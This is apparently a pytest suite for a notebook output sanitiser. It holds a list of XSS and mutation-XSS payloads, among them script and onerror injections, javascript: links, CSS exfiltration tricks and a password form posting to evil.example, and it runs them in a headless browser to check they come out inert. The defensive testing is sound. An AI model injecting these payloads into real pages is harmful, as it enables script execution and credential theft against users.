"""Hostile output from a remote member is harmless by the time it is published; honest output still looks right."""

from __future__ import annotations

import base64
import io
import shutil
from html.parser import HTMLParser
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from matplotlib.figure import Figure
from playwright.sync_api import sync_playwright

from fednb.notebook import sanitise
from fednb.notebook.sanitise import clean_bundle, clean_html, clean_text

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 20).decode()


class Audit(HTMLParser):
    """Collects whatever in the markup could act."""

    ACTIVE_TAGS = {"script", "style", "iframe", "object", "embed", "link", "meta", "base", "form", "svg", "math", "a"}

    ACTIVE_ATTRIBUTES = {"id", "name", "srcset", "href", "background", "action", "formaction", "xlink:href"}
    ACTIVE_STYLES = ("url", "image", "position", "expression", "@", "\\", "margin")

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.ACTIVE_TAGS:
            self.found.append(tag)
        for name, value in attrs:
            text = (value or "").lower()
            if name.startswith("on") or name in self.ACTIVE_ATTRIBUTES:
                self.found.append(name)
            if name == "class" and text != "dataframe":
                self.found.append(f"class={text}")
            if name == "src" and not text.startswith(("data:image/png", "data:image/jpeg", "data:image/gif")):
                self.found.append(f"src={text}")
            if name == "style" and any(word in text for word in self.ACTIVE_STYLES):
                self.found.append(f"style={text}")

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")


def active(markup: str) -> list[str]:
    audit = Audit()
    audit.feed(markup)
    audit.close()
    return audit.found


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/beacon.png'>",
    "<img srcset='https://evil.example/b.png 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='https://evil.example'>a link</a>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background-color:u\\72l(https://evil.example)'>x</div>",
    "<div style='background-image:image-set(\"https://evil.example\" 1x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px'>over everything</div>",
    "<div style='color:red;margin-top:-500px'>over the cell above</div>",
    "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=password><button formaction=x>go</button></form>",
    "<div class='jp-Dialog' id='jp-main-dock-panel'>x</div>",
    "<img name=body><img id=cookie>",
    "<details open ontoggle=alert(1)>x</details>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<table background='javascript:alert(1)'><td background='https://evil.example'>x</table>",
    "<video src=x onerror=alert(1)><audio onerror=alert(1)>",
    "</div></div></body><script>alert(1)</script>",
]
TRICKY = [  # active only as a browser parses it, or after one naive pass
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    f"<img src='data:image/png;base64,{PNG}\" onerror=\"alert(1)'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]


@pytest.mark.parametrize("markup", [*HOSTILE, *TRICKY])
def test_hostile_markup_comes_out_inert(markup: str) -> None:
    assert markup in TRICKY or active(markup), "this example would pass through a sanitiser that does nothing"
    cleaned = clean_html(markup)
    assert active(cleaned) == []
    assert "evil.example" not in cleaned
    assert "alert" not in cleaned or "<" not in cleaned.split("alert")[0][-20:]
    assert active(clean_html(cleaned)) == []


@given(st.text(alphabet="<>/\"'= abcdefghijklmnopqrstuvwxyz:;()&#!-\n\\", max_size=120))
@settings(max_examples=200)
def test_whatever_the_markup_nothing_active_comes_out(markup: str) -> None:
    assert active(clean_html(f"<img {markup}><svg {markup}><script>{markup}")) == []


def test_unclosed_tags_cannot_swallow_what_follows() -> None:
    assert clean_html("<table><tr><td><div>x").count("</") == 5
    assert clean_html("x</div></div>") == "x"


def test_a_table_of_pandas_is_still_a_table() -> None:
    frame = pd.DataFrame({"amount": [1.5, 2.5], "name": ["<b>x</b>", "y"]}, index=["r", "s"])
    cleaned = clean_html(frame._repr_html_())
    assert '<table border="1" class="dataframe">' in cleaned
    assert '<tr style="text-align:right">' in cleaned
    assert "&lt;b&gt;x&lt;/b&gt;" in cleaned
    assert "<td>1.5</td>" in cleaned and "<th>r</th>" in cleaned
    assert "vertical-align" not in cleaned  # the stylesheet is gone, and its text with it


def test_a_styled_table_keeps_spans_and_harmless_inline_style() -> None:
    cleaned = clean_html("<table><tr><td colspan='2' style='background-color:#ff0000;color:white'>5</td></tr></table>")
    assert 'colspan="2"' in cleaned
    assert "background-color:#ff0000" in cleaned and "color:white" in cleaned


def test_a_figure_passes_with_its_size() -> None:
    figure = Figure()
    figure.subplots().plot(np.arange(3))
    raw = io.BytesIO()
    figure.savefig(raw, format="png")
    encoded = base64.encodebytes(raw.getvalue()).decode()  # with newlines, as some libraries send it
    data, metadata = clean_bundle(
        "bank",
        {"image/png": encoded, "text/plain": "<Figure>"},
        {"image/png": {"width": 640, "height": 480, "onload": "alert(1)"}, "needs_background": "light"},
    )
    assert base64.b64decode(data["image/png"]) == raw.getvalue()
    assert metadata == {"image/png": {"width": 640, "height": 480}}


def test_an_image_that_is_none_is_not_passed_on() -> None:
    for fake in ('x" onerror="alert(1)', base64.b64encode(b"<script>alert(1)</script>").decode(), "%%%"):
        data, _ = clean_bundle("bank", {"image/png": fake}, {})
        assert set(data) == {"text/plain"}
        assert "broken or too large" in data["text/plain"]


def test_metadata_cannot_carry_markup() -> None:
    _, metadata = clean_bundle("bank", {"image/png": PNG}, {"image/png": {"width": '1" onload="x', "height": True}})
    assert metadata == {}


def test_an_svg_becomes_an_image_in_which_nothing_runs() -> None:
    data, _ = clean_bundle("bank", {"image/svg+xml": "<svg onload=alert(1)><script>1</script></svg>"}, {})
    assert set(data) == {"text/html"}
    assert data["text/html"].startswith('<img alt="SVG" src="data:image/svg+xml;base64,')
    assert "alert" not in data["text/html"]


@pytest.mark.parametrize(
    "mime",
    [
        "application/javascript",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.plotly.v1+json",
        "application/vnd.bokehjs_exec.v0+json",
        "application/vnd.vegalite.v5+json",
        "application/vnd.dataresource+json",
        "application/pdf",
        "text/html+x",
    ],
)
def test_types_that_act_are_replaced_by_text(mime: str) -> None:
    data, _ = clean_bundle("bank", {mime: {"payload": 1}, "text/plain": "a widget"}, {mime: {"a": 1}})
    assert data == {"text/plain": "a widget"}
    data, _ = clean_bundle("bank", {mime: "payload"}, {})
    assert data == {"text/plain": f"[bank sent {mime}: not shown]"}


def test_markdown_and_latex_are_shown_as_they_were_written() -> None:
    source = "[x](javascript:alert(1)) <img src=x onerror=alert(1)>"
    assert clean_bundle("bank", {"text/markdown": source, "text/plain": "<Markdown>"}, {})[0] == {"text/plain": source}
    latex = r"$\href{javascript:alert(1)}{x}$"
    assert clean_bundle("bank", {"text/latex": latex, "text/plain": "x"}, {})[0] == {"text/plain": latex}


def test_json_is_shown_as_text() -> None:
    data, _ = clean_bundle("bank", {"application/json": {"a": ["<b>"]}}, {})
    assert data == {"text/plain": '{\n "a": [\n  "<b>"\n ]\n}'}


def test_json_with_keys_that_json_does_not_have_is_not_shown_and_harms_nothing() -> None:
    data, _ = sanitise.clean_bundle("bank", {"application/json": {b"x": 1}}, {})
    assert data == {"text/plain": "[bank sent application/json: not shown]"}


def test_markup_that_needs_a_script_gives_way_to_its_text() -> None:
    data, _ = clean_bundle("bank", {"text/html": "<div><input type=checkbox>Lasso</div>", "text/plain": "Lasso()"}, {})
    assert data == {"text/plain": "Lasso()"}


def test_values_that_are_no_text_are_not_trusted_to_be_any() -> None:
    bundles: list[dict[str, Any]] = [{"text/html": 5}, {"text/plain": ["x"]}, {"image/png": {"a": 1}}, {}]
    for bundle in bundles:
        data, _ = clean_bundle("bank", bundle, {"image/png": 3})
        assert set(data) == {"text/plain"} and data["text/plain"].startswith("[bank sent")


def test_too_much_is_cut_with_a_note(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sanitise, "MAX_HTML", 100)
    data, _ = clean_bundle("bank", {"text/html": "<p>x</p>" * 100, "text/plain": "x"}, {})
    assert data == {"text/plain": "[bank sent 800 characters of HTML; at most 100 are shown]\nx"}
    assert clean_text("y" * 30, 10) == "y" * 10 + "\x1b[0m\n[20 more characters are not shown]"
    monkeypatch.setattr(sanitise, "MAX_IMAGE", 10)
    assert "too large" in clean_bundle("bank", {"image/png": PNG * 300}, {})[0]["text/plain"]
    assert "too large" in clean_bundle("bank", {"image/svg+xml": "<svg>" * 10}, {})[0]["text/html"]


@pytest.mark.skipif(shutil.which("chromium") is None, reason="needs Debian's Chromium")
def test_in_a_real_browser_hostile_markup_neither_runs_nor_loads_anything() -> None:
    markup = "\n".join([*HOSTILE, *TRICKY]).replace("alert(1)", "window.owned=1")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=shutil.which("chromium"), args=["--no-sandbox", "--disable-dev-shm-usage"]
        )
        try:
            owned, asked = _visit(browser, markup)
            assert owned and asked, "as it was sent, it does act: the page can tell the difference"
            bundle, _ = clean_bundle("bank", {"text/html": markup, "image/svg+xml": markup}, {})
            image = sanitise.svg_image("<svg xmlns='http://www.w3.org/2000/svg' onload='window.owned=1'/>")
            owned, asked = _visit(browser, bundle["text/html"] + image)
            assert (owned, asked) == (False, [])
        finally:
            browser.close()


def _visit(browser: Any, markup: str) -> tuple[bool, list[str]]:
    """Whether script ran, and which addresses were asked for; everything outside is answered with nothing."""
    page = browser.new_page()
    asked: list[str] = []

    def answer(route: Any) -> None:
        asked.append(route.request.url)
        route.abort()

    page.route(lambda url: not url.startswith(("data:", "about:", "blob:")), answer)
    page.set_content(f"<!doctype html><body>{markup}</body>", wait_until="load")
    owned = bool(page.evaluate("Boolean(window.owned)"))
    page.close()
    return owned, asked
